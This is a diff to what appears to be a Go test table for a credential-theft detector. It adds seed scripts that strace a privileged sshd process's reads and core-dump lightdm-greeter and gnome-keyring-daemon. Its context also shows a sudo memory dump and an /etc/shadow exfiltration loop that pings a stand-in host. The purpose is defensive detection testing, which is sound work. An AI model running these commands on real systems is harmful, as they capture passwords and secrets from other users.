@@ -137,6 +137,10 @@ var escapeSeeds = []credSeed{
 	{"gcore-sshd", RuleCredCapture, audit.CategoryCredentialTheft, audit.High, "pid=$(pgrep -o sshd)\ngcore -o /tmp/.core $pid"},
 	{"gdb-attach-sudo", RuleCredCapture, audit.CategoryCredentialTheft, audit.High,
 		"gdb -p $(pgrep sudo) -batch -ex 'dump memory /tmp/.m 0x0 0x1000'"},
+	{"strace-ps-grep-awk", RuleCredCapture, audit.CategoryCredentialTheft, audit.High,
+		"while true; do\n  P=`ps aux | grep -w sshd | grep priv | tail -n 1 | awk '{print $2}'`\n  [ -n \"$P\" ] && strace -p $P -e trace=read -o /tmp/.x\ndone"},
+	{"gcore-ps-sed", RuleCredCapture, audit.CategoryCredentialTheft, audit.High,
+		"PID=\"$(ps -eo pid,command | sed -rn '/lightdm\\-greeter/p;/gnome\\-keyring\\-daemon/p' | awk '{ print $1 }')\"\ngcore -o /tmp/d $PID"},
 	// credentials carried off in echo requests and uploads to cloud storage
 	{"icmp-pattern-shadow", RuleCredSend, audit.CategoryCredentialTheft, audit.Critical,
 		"xxd -p -c 16 /etc/shadow | while read line; do\n  ping -c 1 -p $line 203.0.113.9 >/dev/null\ndone"},
@@ -258,6 +262,7 @@ var cleanShapes = map[string]string{
 		"gcore $(pgrep -o java)\nsudo() { command sudo -E \"$@\"; }\nalias ssh='ssh -A'\n",
 	"/usr/local/bin/s3-backup": "#!/bin/sh\naws s3 sync /var/www s3://company-backups/www\nrclone sync /data backup:data\nping -c 3 -p ff 10.0.0.1\n" +
 		"aws s3 cp s3://company-config/app.env /etc/app.env\ngsutil cp gs://bucket/x.tgz /tmp/\n",
+	"/usr/local/bin/kill-app":   "#!/bin/sh\nP=$(ps aux | grep myapp | awk '{print $2}')\nstrace -c -p $P\nps aux | grep nginx | awk '{print $2}' | xargs kill\n",
 	"/usr/local/bin/mem-report": "#!/bin/sh\nfor p in $(pgrep sshd); do grep VmRSS /proc/$p/status; done\ncat /proc/meminfo\n",
 }
 
